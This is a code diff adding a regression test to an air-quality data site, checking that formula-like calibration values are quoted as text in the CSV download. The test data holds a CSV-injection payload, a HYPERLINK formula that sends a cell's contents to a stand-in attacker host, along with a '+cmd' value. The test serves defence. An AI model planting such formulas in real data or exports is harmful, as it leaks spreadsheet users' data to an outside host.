@@ -160,6 +160,34 @@ def test_csv_download_has_the_documented_columns_and_licence(site: Site) -> None
     assert first["pm2_5_n"] == "300" and first["pm2_5_cal"] == "pms-a@2026-10-01" and first["flags"] == ""
 
 
+def test_a_formula_in_old_data_is_downloaded_as_text_and_numbers_stay_numbers(
+    influxd: devservices.Service,
+) -> None:
+    """A `cal` id written before the contract refused formulas (straight into InfluxDB) reaches the
+    open-data CSV quoted, so a spreadsheet shows it instead of running it."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"calibration")'
+    with served_site(influxd.port) as fresh:
+        escaped = formula.replace('"', '\\"')  # line protocol: a quote inside a string field
+        line = (
+            "reading,node=haul-road,site=tsagaan "
+            f'pm2_5=12.5,pm2_5_raw=14.0,pm2_5_n=60i,pm2_5_cal="{escaped}",'
+            'air_temp=-5.2,air_temp_raw=-5.0,air_temp_n=60i,air_temp_cal="+cmd",seq=1i,flags="" '
+            "1795000000000"  # 2026-11-18T11:06:40Z
+        )
+        fresh.db.write([line])
+        status, text, _ = fresh.get(
+            "/download/readings.csv",
+            site="tsagaan",
+            node="haul-road",
+            start="2026-11-18T11:00:00Z",
+            end="2026-11-18T11:10:00Z",
+        )
+    assert status == 200
+    (row,) = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["seq"] == "1"]
+    assert row["pm2_5_cal"] == "'" + formula and row["air_temp_cal"] == "'+cmd"
+    assert (row["air_temp"], row["air_temp_raw"], row["pm2_5"]) == ("-5.2", "-5.0", "12.5")
+
+
 def test_pages_answer_and_stay_small(site: Site) -> None:
     """Each page with what it loads (CSS, scripts) stays under 200 KB for a slow phone link."""
     for path, assets in (
